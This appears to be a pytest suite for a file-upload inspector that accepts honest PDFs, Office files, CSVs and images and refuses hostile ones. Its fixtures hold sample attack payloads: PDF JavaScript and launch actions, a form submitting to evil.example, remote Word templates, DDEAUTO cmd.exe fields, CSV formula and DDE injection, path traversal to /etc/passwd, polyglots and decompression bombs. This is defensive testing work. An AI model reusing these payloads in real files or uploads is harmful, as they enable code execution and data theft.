"""What an upload may be: whole, of the type it says, and nothing in it that acts."""

import hashlib
import io
import os
import random
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from reportlab.pdfgen.canvas import Canvas

from shared.inspection import Accepted, Refused, inspect_file, limits
from shared.inspection.apart import apart
from shared.inspection.upload import structure
from shared.inspection.verdict import CSV, DOCX, ENDINGS, JPEG, PDF, PNG, XLSX
from tests.support import hostile

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
BOMB = zlib.compress(b"\0" * (80 << 20), 9)
RUNS = "rels/document.xml.rels"


@pytest.fixture
def look(tmp_path: Path):
    """Inspect bytes as an upload that was announced truly, unless a test says otherwise."""

    def _look(data: bytes, media_type: str = PDF, name: str = "", **lies: object) -> Accepted | Refused:
        path = tmp_path / "upload"
        path.write_bytes(data)
        announced = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()} | lies
        name = name or f"SOP{ENDINGS[media_type][0]}"
        return inspect_file(path, media_type, announced["size"], announced["sha256"], name)

    return _look


def written(pages: int = 1) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, invariant=1)
    for number in range(pages):
        canvas.drawString(72, 720, f"Page {number}")
        canvas.linkURL("https://cqms.example", (0, 0, 50, 50))
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def code(verdict: Accepted | Refused) -> str:
    return verdict.code if isinstance(verdict, Refused) else "accepted"


HONEST = {
    "written by a word processor": written(3),
    "smallest": hostile.pdf(),
    "with an object stream": hostile.object_stream_pdf({5: b"<< /Author (Anna) >>"}),
    "updated once": hostile.updated(hostile.pdf(), {5: b"<< /Author (Anna) >>"}),
    "opens at its first page": hostile.pdf(hostile.catalog(b"/OpenAction [3 0 R /Fit]")),
    "goes to a page at opening": hostile.pdf(hostile.catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    "links to the web": hostile.pdf(hostile.catalog(b"/X << /S /URI /URI (https://ema.europa.eu/x) >>")),
    "ends with blank lines": hostile.pdf() + b"\r\n\r\n",
}


@pytest.mark.parametrize("data", HONEST.values(), ids=HONEST)
def test_an_honest_pdf_is_accepted_with_its_pages(look, data: bytes) -> None:
    verdict = look(data)
    assert isinstance(verdict, Accepted), verdict
    assert verdict.media_type == PDF
    assert verdict.pages == (3 if data == HONEST["written by a word processor"] else 1)
    assert verdict.sha256 == hashlib.sha256(data).hexdigest()


def test_an_honest_docx_is_accepted(look) -> None:
    linked = hostile.docx({f"word/_{RUNS}": hostile.relation("hyperlink", "https://ema.europa.eu/")})
    assert code(look(hostile.docx(), DOCX)) == "accepted"
    assert code(look(linked, DOCX)) == "accepted"


ACTING = {
    "JavaScript at opening": hostile.pdf(hostile.catalog(b"/OpenAction " + JS)),
    "JavaScript elsewhere": hostile.pdf(hostile.catalog(b"/OpenAction 5 0 R") | {5: JS}),
    "its name escaped": hostile.pdf(hostile.catalog(b"/OpenAction 5 0 R") | {5: b"<< /S /J#61vaScript /J#53 (x) >>"}),
    "a name tree of scripts": hostile.pdf(hostile.catalog(b"/Names << /JavaScript 5 0 R >>") | {5: b"<< >>"}),
    "automatic actions": hostile.pdf(hostile.catalog(b"/AA << /WC << /S /Named /N /Print >> >>")),
    "a program start": hostile.pdf({5: b"<< /S /Launch /F (calc.exe) >>"}),
    "a form that sends": hostile.pdf({5: b"<< /S /SubmitForm /F (https://evil.example) >>"}),
    "a form that loads": hostile.pdf({5: b"<< /S /ImportData /F (x.fdf) >>"}),
    "an XFA form": hostile.pdf(hostile.catalog(b"/AcroForm << /XFA [(a) 5 0 R] >>") | {5: hostile.stream(b"<x/>")}),
    "embedded files": hostile.pdf(hostile.catalog(b"/Names << /EmbeddedFiles << /Names [] >> >>")),
    "an embedded file": hostile.pdf({5: b"<< /Type /Filespec /F (a) /EF << /F 6 0 R >> >>", 6: hostile.stream(b"MZ")}),
    "an attachment": hostile.pdf({5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] >>"}),
    "rich media": hostile.pdf({5: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"}),
    "a film": hostile.pdf({5: b"<< /Type /Annot /Subtype /Movie /Rect [0 0 1 1] >>"}),
    "media": hostile.pdf({5: b"<< /S /Rendition /OP 0 >>"}),
    "another file": hostile.pdf({5: b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"}),
    "what is shown changed": hostile.pdf({5: b"<< /S /SetOCGState /State [/OFF 6 0 R] >>"}),
    "fields hidden": hostile.pdf({5: b"<< /S /Hide /T (field) >>"}),
    "a printing at opening": hostile.pdf(hostile.catalog(b"/OpenAction << /S /Named /N /Print >>")),
    "an indirect action at opening": hostile.pdf(
        hostile.catalog(b"/OpenAction 5 0 R") | {5: b"<< /S /URI /URI (https://evil.example) >>"}
    ),
    "a script as link": hostile.pdf({5: b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"}),
    "a file as link": hostile.pdf({5: b"<< /S /URI /URI (file:///etc/passwd) >>"}),
    "an indirect link": hostile.pdf({5: b"<< /S /URI /URI 6 0 R >>", 6: b"(javascript:alert\\(1\\))"}),
    "a stream from elsewhere": hostile.pdf({4: hostile.stream(b"", b"/F (https://evil.example/page)")}),
    "a portfolio": hostile.pdf(hostile.catalog(b"/Collection << >>")),
    "inside an object stream": hostile.object_stream_pdf({5: JS}),
    "unlisted in an object stream": hostile.object_stream_pdf({5: JS}, listed=False),
    "in an earlier revision": hostile.updated(hostile.pdf({5: JS}), {5: b"<< >>"}),
    "in a later revision": hostile.updated(hostile.pdf(), {5: JS}),
    "encryption": hostile.pdf(
        {5: b"<< /Filter /Standard /V 1 /R 2 /O (%b) /U (%b) /P -4 >>" % (b"a" * 32, b"b" * 32)},
        b"/Encrypt 5 0 R /ID [(aaaaaaaaaaaaaaaa) (aaaaaaaaaaaaaaaa)]",
    ),
}  # fmt: skip


@pytest.mark.parametrize("data", ACTING.values(), ids=ACTING)
def test_a_pdf_that_acts_is_refused(look, data: bytes) -> None:
    verdict = look(data)
    assert code(verdict) == "active_content", verdict
    assert "save it without" in verdict.reason


def cut(data: bytes) -> bytes:
    return data[: len(data) // 2]


STRANGE = {
    "something before its header": (b"\n" + hostile.pdf(), "type"),
    "a page before its header": (b"<html>" + hostile.pdf(), "active_type"),
    "something after its end": (hostile.pdf() + b"<script>alert(1)</script>", "polyglot"),
    "an archive behind it": (hostile.pdf() + hostile.docx(), "polyglot"),
    "an archive around its end": (hostile.pdf({5: hostile.stream(hostile.docx())}), "polyglot"),
    "its end missing": (cut(hostile.pdf()), "unreadable"),
    "its table pointing elsewhere": (hostile.pdf().replace(b"startxref\n", b"startxref\n9"), "unreadable"),
    "its table shifted": (hostile.pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%\n"), "unreadable"),
    "no pages": (hostile.pdf({2: b"<< /Type /Pages /Kids [] /Count 0 >>"}), "too_much"),
    "pages in a circle": (hostile.pdf({2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}), "unreadable"),
    "a stream that cannot be unpacked": (
        hostile.pdf({4: hostile.stream(b"not zlib", b"/Filter /FlateDecode")}),
        "unreadable",
    ),
    "brackets without end": (hostile.pdf({5: b"[" * 100_000}), "unreadable"),
    "a bomb": (hostile.pdf({4: hostile.stream(BOMB, b"/Filter /FlateDecode")}), "too_much"),
    "a bomb packed twice": (
        hostile.pdf({4: hostile.stream(zlib.compress(BOMB), b"/Filter [/FlateDecode /FlateDecode]")}),
        "too_much",
    ),
    "a bomb in a text coat": (
        hostile.pdf({4: hostile.stream(BOMB.hex().encode() + b">", b"/Filter [/AHx /Fl]")}),
        "too_much",
    ),
    "an image of 40,000 by 40,000 points": (
        hostile.pdf(
            {5: hostile.stream(b"x", b"/Subtype /Image /Width 40000 /Height 40000 /Filter /DCTDecode")}
        ),
        "too_much",
    ),
}


@pytest.mark.parametrize(("data", "expected"), STRANGE.values(), ids=STRANGE)
def test_a_broken_or_double_pdf_is_refused(look, data: bytes, expected: str) -> None:
    assert code(look(data)) == expected


def test_a_pdf_of_too_many_pages_is_refused(look, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MOST_PAGES", 2)
    assert code(look(written(3))) == "too_much"


@pytest.mark.parametrize("lie", [{"size": 1}, {"sha256": "0" * 64}])
def test_other_bytes_than_announced_are_refused(look, lie: dict[str, object]) -> None:
    assert code(look(hostile.pdf(), **lie)) == "checksum"


OTHERS = [
    b"",
    b"plain",
    b"<html>",
    b"<svg onload=x>",
    b"\xef\xbb\xbf<!DOCTYPE html>",
    b"#!/bin/sh",
    b"MZ\x90\0",
    b"\x7fELF",
]


@pytest.mark.parametrize("data", OTHERS)
@pytest.mark.parametrize("media_type", [PDF, DOCX, XLSX, PNG, JPEG])
def test_pages_scripts_and_programs_are_refused(look, data: bytes, media_type: str) -> None:
    assert code(look(data, media_type)) in {"type", "active_type"}


@pytest.mark.parametrize(
    ("data", "media_type", "name"),
    [
        (hostile.pdf(), DOCX, "a.docx"),
        (hostile.docx(), PDF, "a.pdf"),
        (hostile.pdf(), PDF, "a.html"),
        (hostile.docx(), XLSX, "a.xlsx"),
        (hostile.xlsx(), DOCX, "a.docx"),
        (hostile.pdf(), CSV, "a.csv"),
        (hostile.png(), JPEG, "a.jpg"),
        (hostile.jpeg(), PNG, "a.png"),
        (hostile.png(), CSV, "a.csv"),
        (b"a;b\n", CSV, "a.html"),
        (b"<html>", CSV, "a.csv"),
        (b"MZ\x90\0", CSV, "a.csv"),
    ],
)
def test_a_file_that_is_not_the_type_it_says_is_refused(
    look, data: bytes, media_type: str, name: str
) -> None:
    assert code(look(data, media_type, name)) in {"type", "active_type"}


TEMPLATE = hostile.relation("attachedTemplate", "https://evil.example/a.dotm")
TYPES = hostile.DOCX_PARTS["[Content_Types].xml"]
SOURCES = {
    "macros": ({"word/vbaProject.bin": b"x"}, "active_content"),
    "a macro type": (
        {
            "[Content_Types].xml": TYPES.replace(
                b"application/xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"
            )
        },
        "active_content",
    ),
    "a template from elsewhere": ({f"word/_{RUNS}": TEMPLATE}, "active_content"),
    "its words in UTF-16": (
        {f"word/_{RUNS}": TEMPLATE.replace(b'"1.0"', b'"1.0" encoding="UTF-16"').decode().encode("utf-16")},
        "active_content",
    ),
    "its mode escaped": (
        {f"word/_{RUNS}": TEMPLATE.replace(b'"External"', b'"&#69;xternal"')},
        "active_content",
    ),
    "its element prefixed": (
        {
            f"word/_{RUNS}": hostile.relation(
                "attachedTemplate", "https://evil.example/", element="x:Relationship"
            )
        },
        "active_content",
    ),
    "a file as link": ({f"word/_{RUNS}": hostile.relation("hyperlink", "file://evil/x")}, "active_content"),
    "a script as link": ({f"word/_{RUNS}": hostile.relation("hyperlink", "javascript:x")}, "active_content"),
    "an embedded page": (
        {f"word/_{RUNS}": hostile.relation("aFChunk", "afchunk.html", "")},
        "active_content",
    ),
    "a field that runs": (
        {"word/document.xml": b"<w:p xmlns:w='w'><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>"},
        "active_content",
    ),
    "a field spread over runs": (
        {
            "word/document.xml": b"<w:p xmlns:w='w'><w:fldChar/><w:instrText>INCLUDE</w:instrText>"
            b'<w:r/><w:instrText>TEXT "\\\\evil\\x" </w:instrText></w:p>'
        },
        "active_content",
    ),
    "two parts of one name": ({"word/Document.xml": b"<x/>"}, "polyglot"),
    "entities": ({f"word/_{RUNS}": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}, "active_content"),
    "controls": ({"word/activeX/activeX1.xml": b"<x/>"}, "active_content"),
    "an OLE object": ({"word/embeddings/oleObject1.bin": b"x"}, "active_content"),
    "a program by another name": ({"word/media/image1.png": b"MZ\x90\0"}, "active_content"),
    "an archive by another name": ({"word/media/image1.png": hostile.docx()}, "active_content"),
    "a path outside": ({"../../etc/passwd": b"x"}, "polyglot"),
    "an absolute path": ({"/etc/passwd": b"x"}, "polyglot"),
    "a bomb": ({"word/media/image1.bmp": b"\0" * (90 << 20)}, "too_much"),
    "no document": ({"word/document.xml": b"", "[Content_Types].xml": b"not xml"}, "unreadable"),
}


@pytest.mark.parametrize(("parts", "expected"), SOURCES.values(), ids=SOURCES)
def test_a_docx_that_acts_is_refused(look, parts: dict[str, bytes], expected: str) -> None:
    assert code(look(hostile.docx(parts), DOCX)) == expected


SHEET = b"<worksheet xmlns='m'><c r='A1'><f>%b</f></c></worksheet>"
WORKBOOKS = {
    "macros": {"xl/vbaProject.bin": b"x"},
    "old macros": {"xl/macrosheets/sheet1.xml": b"<x/>"},
    "a workbook elsewhere": {"xl/externalLinks/externalLink1.xml": b"<x/>"},
    "a database": {"xl/connections.xml": b"<x/>"},
    "a formula that fetches": {"xl/worksheets/sheet1.xml": SHEET % b"WEBSERVICE(A1)"},
    "a formula that talks": {"xl/worksheets/sheet1.xml": SHEET % b"cmd|'/c calc'!A1"},
    "a name that runs": {"xl/workbook.xml": b"<workbook xmlns='m'><definedName>EXEC(A1)</definedName></workbook>"},
    "an object": {"xl/worksheets/sheet1.xml": b"<worksheet xmlns='m'><oleObject/></worksheet>"},
    "an embedded file": {"xl/embeddings/a.bin": b"x"},
}  # fmt: skip


@pytest.mark.parametrize("parts", WORKBOOKS.values(), ids=WORKBOOKS)
def test_a_workbook_that_acts_is_refused(look, parts: dict[str, bytes]) -> None:
    assert code(look(hostile.xlsx(parts), XLSX)) == "active_content"


PLAIN = {
    "a workbook": (hostile.xlsx({"xl/worksheets/sheet1.xml": SHEET % b"SUM(A2:A9)"}), XLSX),
    "rows": (b'site;rate;note\n104;-2,5 %;- none\n107;+1.5e-3;"a, b"\n', CSV),
    "rows from a spreadsheet": ("\ufeffsite,said\r\n104,Grüße\r\n".encode(), CSV),
    "no rows": (b"\n", CSV),
    "a picture": (hostile.png(), PNG),
    "a photograph": (hostile.jpeg(), JPEG),
    "a progressive photograph": (hostile.jpeg(frame=0xC2, scans=2), JPEG),
}


@pytest.mark.parametrize(("data", "media_type"), PLAIN.values(), ids=PLAIN)
def test_evidence_without_anything_that_acts_is_accepted(look, data: bytes, media_type: str) -> None:
    assert code(look(data, media_type)) == "accepted"


ROWS = {
    "a formula": (b"a;b\n=1+1;2\n", "active_content"),
    "a formula behind a blank": (b'a,b\n" =HYPERLINK(1)",2\n', "active_content"),
    "a full-width formula": ("a\n\uff1d1\n".encode(), "active_content"),
    "a call": (b"a,b\n@SUM(A1),2\n", "active_content"),
    "a conversation": (b"a,b\n\"-2+3+cmd|'/c calc'!A0\",2\n", "active_content"),
    "a script": (b"a,b\nx,<script>alert(1)</script>\n", "active_content"),
    "a control character": (b"a,b\nx\x00,y\n", "unreadable"),
    "another encoding": ("a,b\nGrüße,2\n".encode("latin-1"), "unreadable"),
    "a line without end": (b"x" * (2 << 20), "too_much"),
    "a quote without end": (b'a,"b\n', "unreadable"),
}


@pytest.mark.parametrize(("data", "expected"), ROWS.values(), ids=ROWS)
def test_rows_that_a_spreadsheet_would_run_are_refused(look, data: bytes, expected: str) -> None:
    assert code(look(data, CSV)) == expected


PICTURES = {
    "something behind a picture": (hostile.png() + b"<script>", PNG, "polyglot"),
    "an archive behind a picture": (hostile.png() + hostile.docx(), PNG, "polyglot"),
    "something behind a photograph": (hostile.jpeg() + hostile.docx(), JPEG, "polyglot"),
    "a picture cut off": (cut(hostile.png()), PNG, "unreadable"),
    "a photograph cut off": (hostile.jpeg()[:-2], JPEG, "unreadable"),
    "a photograph of nothing": (b"\xff\xd8\xff\xd9", JPEG, "unreadable"),
    "a picture of 40,000 by 40,000 points": (hostile.png(40_000), PNG, "too_much"),
    "a photograph of 60,000 by 60,000 points": (hostile.jpeg(60_000), JPEG, "too_much"),
    "a text that swells": (hostile.png(more=hostile.chunk(b"zTXt", b"k\0\0" + BOMB)), PNG, "too_much"),
    "a spoiled chunk": (hostile.png().replace(b"IDAT", b"IDAX"), PNG, "unreadable"),
}


@pytest.mark.parametrize(("data", "media_type", "expected"), PICTURES.values(), ids=PICTURES)
def test_a_picture_that_is_more_than_a_picture_is_refused(
    look, data: bytes, media_type: str, expected: str
) -> None:
    assert code(look(data, media_type)) == expected


def test_a_docx_with_one_byte_changed_is_refused(look) -> None:
    data = bytearray(hostile.docx())
    data[data.index(b"word/document.xml") + 40] ^= 1
    assert code(look(bytes(data), DOCX)) == "unreadable"


def test_a_refusal_never_repeats_hostile_characters(look) -> None:
    verdict = look(hostile.docx({"word/embeddings/\x1b[31m\u202e.bin": b"x"}), DOCX)
    assert isinstance(verdict, Refused)
    assert verdict.reason.isprintable()


def test_inspecting_ends_when_its_time_is_over(look, monkeypatch: pytest.MonkeyPatch) -> None:
    longer = written(2000)  # than whoever waits may be kept from looking at the clock
    monkeypatch.setattr(limits, "MOST_SECONDS", 0.0)
    assert code(look(longer)) == "too_much"


def hang(path: Path, kind: str) -> int:
    while True:
        kind += ""


def swell(path: Path, kind: str) -> int:
    return len([bytearray(1 << 28) for _ in range(64)])


def die(path: Path, kind: str) -> int:
    os._exit(3)


@pytest.mark.parametrize("looking", [hang, swell, die])
def test_a_parser_that_hangs_swells_or_dies_is_a_refusal(tmp_path: Path, looking) -> None:
    path = tmp_path / "upload"
    path.write_bytes(hostile.pdf())
    verdict = apart(looking, path, PDF, seconds=2.0, memory=limits.MOST_MEMORY)
    assert code(verdict) == "too_much"


@settings(max_examples=150, deadline=None)
@given(
    st.binary(max_size=2000),
    st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04", hostile.png()[:33], hostile.jpeg()[:20]]),
    st.sampled_from([PDF, DOCX, XLSX, CSV, PNG, JPEG]),
)
def test_random_bytes_never_break_the_inspection(
    tmp_path_factory, data: bytes, head: bytes, kind: str
) -> None:
    path = tmp_path_factory.getbasetemp() / "random"
    path.write_bytes(head + data + (b"%%EOF" if head.startswith(b"%PDF") else b""))
    assert isinstance(structure(path, kind), Accepted | Refused | int | None)


@settings(max_examples=250, deadline=None)
@given(
    st.sampled_from([*((data, PDF) for data in (*HONEST.values(), *ACTING.values())), *PLAIN.values()]),
    st.integers(0, 2**32),
    st.integers(1, 12),
)
def test_spoiled_files_never_break_the_inspection(
    tmp_path_factory, sample: tuple[bytes, str], seed: int, times: int
) -> None:
    data, media_type = sample
    spoiled, dice = bytearray(data), random.Random(seed)
    for _ in range(times):
        spoiled[dice.randrange(len(spoiled))] = dice.randrange(256)
    path = tmp_path_factory.getbasetemp() / "spoiled"
    path.write_bytes(bytes(spoiled))
    assert isinstance(structure(path, media_type), Accepted | Refused | int | None)
